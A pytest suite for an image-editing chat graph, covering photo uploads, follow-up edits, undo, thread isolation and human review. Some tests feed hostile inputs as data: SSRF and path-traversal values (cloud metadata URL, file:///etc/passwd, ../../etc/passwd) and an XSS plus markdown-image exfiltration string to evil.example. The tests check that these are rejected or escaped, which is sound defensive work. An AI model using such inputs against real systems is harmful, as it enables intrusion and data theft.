"""The chat: photos and wishes in, pictures out, follow-ups in the same thread."""

import base64
from collections.abc import Callable
from typing import Any

import pytest
from langchain_core.messages import HumanMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from editthinker.graph.chat import ASK_FOR_PHOTO, ASK_FOR_WISH, build_chat
from editthinker.graph.thinkers.base import Thought
from editthinker.graph.thinkers.scripted import ScriptedThinker
from editthinker.tools.blobs import BlobStore
from editthinker.tools.editors.fake import FakeEditor
from editthinker.tools.errors import EditRefusedError
from editthinker.tools.images import ImageRef


class Chat:
    """Talks to the graph as a front end does."""

    def __init__(self, blobs: BlobStore, photo: ImageRef, **parts: Any) -> None:
        self.editor = parts.pop("editor", None) or FakeEditor()
        self.saver = InMemorySaver()
        thinker = ScriptedThinker(parts.pop("thoughts", None) or [thought()] * 20)
        self.graph: Any = build_chat([self.editor], thinker, blobs).compile(checkpointer=self.saver)
        self.data = base64.b64encode(blobs.get(photo["sha256"])).decode()
        self.config: Any = {"configurable": {"thread_id": "t"}}
        self.parts = parts

    def image(self) -> dict[str, Any]:
        return {"type": "image", "base64": self.data, "mime_type": "image/png"}

    async def say(self, text: str, *blocks: Any) -> Any:
        content = [{"type": "text", "text": text}, *blocks] if blocks else text
        given = {"messages": [HumanMessage(content)]}
        return await self.graph.ainvoke(given, self.config, context=self.parts or None)


def thought(**more: Any) -> Thought:
    return Thought(9.0, 9.0, more.pop("reasoning", "as asked"), None, **more)


@pytest.fixture
def chat(blobs: BlobStore, photo: ImageRef) -> Callable[..., Chat]:
    return lambda **parts: Chat(blobs, photo, **parts)


def text_of(out: Any) -> str:
    return str(out["messages"][-1].content[0]["text"])


async def test_a_photo_and_a_wish_make_an_edit(chat: Any, photo: ImageRef) -> None:
    talk = chat()
    out = await talk.say("make it warmer", talk.image())
    assert text_of(out).startswith("Edit 1. New picture")
    assert out["messages"][-1].content[1]["type"] == "image"
    assert [p["number"] for p in out["pictures"]] == [0, 1]
    assert out["pictures"][0]["image"] == photo


@pytest.mark.parametrize(
    "block",
    [
        lambda d: {"type": "image", "base64": d, "mime_type": "image/png"},
        lambda d: {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{d}"}},
        lambda d: {"type": "image_url", "image_url": f"data:image/png;base64,{d}"},
        lambda d: {
            "type": "image",
            "source": {"type": "base64", "media_type": "image/png", "data": d},
        },
        lambda d: {"type": "image", "source_type": "base64", "mimeType": "image/png", "data": d},
        lambda d: {"type": "file", "base64": d, "mime_type": "image/png"},
    ],
)
async def test_reads_the_image_blocks_of_every_front_end(
    block: Any, chat: Any, photo: ImageRef
) -> None:
    talk = chat()
    out = await talk.say("make it warmer", block(talk.data))
    assert out["pictures"][0]["image"] == photo


async def test_an_uploaded_picture_is_named_by_hash_or_address(chat: Any, photo: ImageRef) -> None:
    talk = chat()
    out = await talk.say("warmer", {"type": "image", "file_id": photo["sha256"]})
    assert out["pictures"][0]["image"] == photo
    address = f"http://127.0.0.1:2024/blobs/{photo['sha256']}"
    out = await talk.say("colder", {"type": "image", "url": address})
    assert [p["number"] for p in out["pictures"]] == [0, 1, 0, 2]


async def test_follow_ups_go_on_from_the_picture_they_name(chat: Any, photo: ImageRef) -> None:
    talk = chat()
    await talk.say("make it warmer", talk.image())
    await talk.say("now a bit brighter")
    out = await talk.say("go back to the first one")
    assert text_of(out) == "Edit 1 again."
    first, second = out["pictures"][1]["image"], out["pictures"][2]["image"]
    await talk.say("sharper")
    out = await talk.say("back to the original and make it sepia")
    assert text_of(out).startswith("Edit 4.")
    sources = [call.images[0].ref for call in talk.editor.calls]
    assert sources == [photo, first, first, photo]
    assert [call.prompt for call in talk.editor.calls] == [
        "make it warmer",
        "a bit brighter",
        "sharper",
        "make it sepia",
    ]
    assert second not in sources
    out = await talk.say("undo")
    assert text_of(out) == "The photo as it was."
    assert "no such picture" in text_of(await talk.say("go back to the ninth one"))


async def test_asks_for_what_is_missing(chat: Any) -> None:
    talk = chat()
    assert text_of(await talk.say("make it warmer")) == ASK_FOR_PHOTO
    assert text_of(await talk.say("", talk.image())) == ASK_FOR_WISH
    assert text_of(await talk.say("make it warmer")).startswith("Edit 1.")


async def test_threads_know_nothing_of_each_other(chat: Any) -> None:
    talk = chat()
    await talk.say("make it warmer", talk.image())
    talk.config = {"configurable": {"thread_id": "another"}}
    assert text_of(await talk.say("go back to the first one")) == ASK_FOR_PHOTO


async def test_progress_streams_from_inside(chat: Any) -> None:
    talk = chat()
    events = [
        event["event"]
        async for _, event in talk.graph.astream(
            {"messages": [HumanMessage([{"type": "text", "text": "warmer"}, talk.image()])]},
            talk.config,
            stream_mode="custom",
            subgraphs=True,
        )
    ]
    assert events[0] == "edit_started" and events[-1] == "selected"


async def test_the_callers_settings_reach_the_loop(chat: Any) -> None:
    low = Thought(2.0, 9.0, "too little", "more")
    talk = chat(thoughts=[low] * 8, max_turns=2)
    await talk.say("warmer", talk.image())
    assert len(talk.editor.calls) == 2


async def test_a_person_can_review_in_the_chat(chat: Any) -> None:
    talk = chat(review=True)
    out = await talk.say("warmer", talk.image())
    assert out["__interrupt__"][0].value["turn"] == 1
    out = await talk.graph.ainvoke(
        Command(resume={"action": "accept"}), talk.config, context=talk.parts
    )
    assert text_of(out).startswith("Edit 1.")


@pytest.mark.parametrize(
    ("block", "words"),
    [
        ({"type": "image", "url": "http://169.254.169.254/latest/meta-data"}, "not image data"),
        ({"type": "image", "url": "file:///etc/passwd"}, "not image data"),
        ({"type": "image_url", "image_url": {"url": "http://localhost/x.png"}}, "not image data"),
        ({"type": "image", "file_id": "../../etc/passwd"}, "not image data"),
        ({"type": "image", "base64": "AAAA", "mime_type": "image/png"}, "no image of a known kind"),
        (
            {"type": "image", "base64": "PHN2Zz48L3N2Zz4=", "mime_type": "image/svg+xml"},
            "SVG drawing",
        ),
    ],
)
async def test_what_is_no_picture_gets_an_answer_and_nothing_is_fetched(
    block: Any, words: str, chat: Any
) -> None:
    talk = chat()
    said = text_of(await talk.say("warmer", block))
    assert said.startswith("I cannot use that picture") and words in said
    assert talk.editor.calls == []


async def test_a_refusal_is_an_answer(chat: Any) -> None:
    talk = chat(editor=FakeEditor(fail_on=[EditRefusedError("I cannot make him smile")] * 3))
    assert "cannot make him smile" in text_of(await talk.say("smile", talk.image()))


async def test_what_others_wrote_cannot_become_markup(chat: Any) -> None:
    evil = "<script>alert(1)</script> ![x](http://evil.example/?leak) `code`"
    talk = chat(thoughts=[thought(reasoning=evil)])
    said = text_of(await talk.say(f"warmer {evil}", talk.image()))
    for sign in "<[`":
        assert f"\\{sign}" in said
        assert said.count(sign) == said.count(f"\\{sign}")


async def test_checkpoints_stay_small_where_pictures_have_an_address(
    chat: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EDITTHINKER_PUBLIC_URL", "http://127.0.0.1:2024")
    talk = chat()
    out = await talk.say("make it warmer", talk.image())
    assert out["messages"][-1].content[1]["url"].startswith("http://127.0.0.1:2024/blobs/")
    for wish in ["brighter", "sharper", "colder"]:
        out = await talk.say(wish)
    assert "base64" not in str(out["messages"])
    latest = await talk.saver.aget_tuple(talk.config)
    assert len(talk.saver.serde.dumps_typed(latest.checkpoint)[1]) < 20_000
